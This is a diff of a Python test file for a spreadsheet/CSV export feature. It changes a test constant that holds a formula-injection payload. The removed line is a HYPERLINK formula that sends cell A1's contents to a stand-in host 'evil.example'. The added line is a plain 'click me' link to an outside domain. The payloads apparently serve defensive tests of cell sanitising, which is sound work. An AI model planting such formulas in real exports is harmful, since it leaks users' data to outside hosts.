@@ -18,7 +18,7 @@ from academy.xlsx import csv_cell, formula_like, write_xlsx
 from tests.web.test_certificate_downloads import certs  # noqa: F401 (fixture)
 from tests.web.test_exam_admin import bank, exam, sit  # noqa: F401 (fixtures)
 
-EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+EVIL = '=HYPERLINK("http://x.cn","点我")'
 
 
 def _evil_cells(data: bytes, needle: str) -> list:
